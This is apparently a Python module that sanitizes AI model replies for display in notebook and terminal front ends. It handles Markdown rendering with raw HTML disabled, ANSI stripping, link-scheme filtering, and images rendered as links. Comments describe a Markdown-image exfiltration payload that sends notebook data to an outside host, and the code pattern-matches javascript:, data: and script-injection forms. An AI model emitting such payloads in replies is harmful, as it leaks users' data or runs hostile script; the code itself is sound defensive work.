"""Showing a reply, which is untrusted text: the one policy every front end goes through.

A prompt can carry a web page, a DataFrame or a traceback written by someone else, and a model
repeats what it reads. So a reply is shown through ``render_markdown`` (HTML) and ``printable``
(plain text) only: Markdown is rendered here, with raw HTML off, so what reaches the page is HTML we
wrote, with links restricted to http(s), mailto and relative targets and images shown as links.
"""

from __future__ import annotations

import html
import re
import urllib.parse
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from mdit_py_plugins.dollarmath import dollarmath_plugin

# ANSI escape sequences (CSI, OSC, two-byte ESC forms), then any other C0/C1 control character
# except newline and tab: a terminal or JupyterLab's ANSI colouring would act on them.
_ANSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[@-Z\\-_]")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_SAFE_SCHEMES = ("http:", "https:", "mailto:")
LINK_REL = "noopener noreferrer nofollow"


def printable(text: str) -> str:
    """The text with ANSI escapes and control characters (all but newline and tab) removed."""
    return _CONTROL.sub("", _ANSI.sub("", text.replace("\r\n", "\n")))


# What a text linkifier makes live: JupyterLab's (rendermime's ``autolink``, ``webLinkRegex``) links
# any "scheme://" and any "data:" inside plain output, VS Code and terminal emulators do much the same.
_LINKABLE = re.compile(r"data:|javascript:|vbscript:|[a-z][a-z0-9+.-]*:(?=//)", re.IGNORECASE)


def unlinkable(text: str) -> str:
    """Plain text in which a linkifier finds no unsafe link: ``data[:]``, ``javascript[:]//``...

    For reply text shown as ``text/plain`` where a front end may turn URLs into live links (a
    listing, a terminal): printable, and every URL scheme other than http(s) broken with ``[:]``
    so it stays readable but is no link (mailto and relative paths are not linkified).
    """

    def defang(match: re.Match[str]) -> str:
        scheme = match.group(0)
        return scheme if scheme.lower() in ("http:", "https:") else scheme[:-1] + "[:]"

    return _LINKABLE.sub(defang, printable(text))


def escaped(text: str) -> str:
    """Plain text for an HTML context: printable, then escaped (notes, status lines, typed prompts)."""
    return html.escape(printable(text))


def link_is_safe(url: str) -> bool:
    """Whether a link target may be live: http(s), mailto, or relative (a path, ``?query``, ``#anchor``).

    Everything else (``javascript:``, ``vbscript:``, ``data:``, ``file:``, unknown schemes) is
    refused, and the check reads the URL as a browser would: percent-escapes decoded, the
    whitespace and control characters a browser skips removed.
    """
    probe = re.sub(r"[\x00-\x20\x7f]", "", urllib.parse.unquote(url)).lower()
    head = re.split(r"[/?#]", probe, maxsplit=1)[0]
    return ":" not in head or probe.startswith(_SAFE_SCHEMES)


def _math(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    # Math stays literal text with its dollars, so the frontend's typesetter (MathJax in JupyterLab,
    # which typesets HTML outputs and widgets too) finds it; Markdown never touches its _ * and \\.
    token = tokens[idx]
    if token.type == "math_block":
        return f'<div class="math block">{escapeHtml("$$" + token.content.strip() + "$$")}</div>\n'
    fence = "$$" if token.type == "math_inline_double" else "$"
    return f'<span class="math inline">{escapeHtml(fence + token.content + fence)}</span>'


def _link_open(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    if re.match(r"(https?:)?//", token.attrGet("href") or "", re.IGNORECASE):
        token.attrSet("target", "_blank")
    token.attrSet("rel", LINK_REL)
    return self.renderToken(tokens, idx, options, env)


def _image_as_link(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    # Loading an image is a request nobody clicked: ![](https://host/?q=<notebook data>) would send
    # data to that host as soon as the answer shows. So an image is a link, with its URL in sight.
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    target = ' target="_blank"' if re.match(r"(https?:)?//", src, re.IGNORECASE) else ""
    return (
        f'<a href="{escapeHtml(src)}" rel="{LINK_REL}"{target}>image: {escapeHtml(alt)}</a>'
        f" <code>{escapeHtml(src)}</code>"
    )


def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False}).enable("table")  # raw HTML shows as text
    md.validateLink = link_is_safe  # type: ignore[method-assign]  # Markdown links, references, autolinks
    # No space just inside the dollars, so "$5 and $10" stays prose (a digit rule would be nicer, but
    # the plugin reads src[-1] for a "$" at the very start). Math is drawn as its own source text,
    # so a currency amount taken for math still shows exactly as written.
    dollarmath_plugin(md, allow_labels=False, allow_space=False, double_inline=True)
    for rule in ("math_inline", "math_inline_double", "math_block"):
        md.add_render_rule(rule, _math)
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("image", _image_as_link)
    return md


_MARKDOWN = _markdown()


def render_markdown(text: str) -> str:
    """A reply as HTML that is safe to insert live: Markdown rendered, raw HTML shown as text.

    No tag or attribute in the output comes from the reply: ``<script>`` or ``<img onerror>``
    show as text, ``javascript:``/``data:`` links stay unlinked text, images become links, and
    ``$...$`` math is kept literally for the frontend's typesetter.
    """
    return _MARKDOWN.render(printable(text))


_TRAILING_CLOSE = re.compile(r"((?:\s*</[a-z0-9]+>)*\s*)\Z")


def with_cursor(body: str, cursor: str = " ▌") -> str:
    """Rendered HTML with a cursor after its last text, inside the last paragraph, item or code block.

    Added after rendering, so the cursor never becomes part of the Markdown (a half-streamed
    ``[ref]: `` would otherwise turn into a link to it).
    """
    return _TRAILING_CLOSE.sub(lambda match: cursor + match.group(1), body, count=1)


def note_html(note: str) -> str:
    """A short note (waiting, interrupted, partial...) as escaped HTML."""
    return f'<p class="acytoo-note"><em>{escaped(note)}</em></p>' if note else ""


def status_html(status: str) -> str:
    """The status line under an answer as escaped HTML."""
    return f'<p class="acytoo-status"><sub>{escaped(status)}</sub></p>' if status else ""
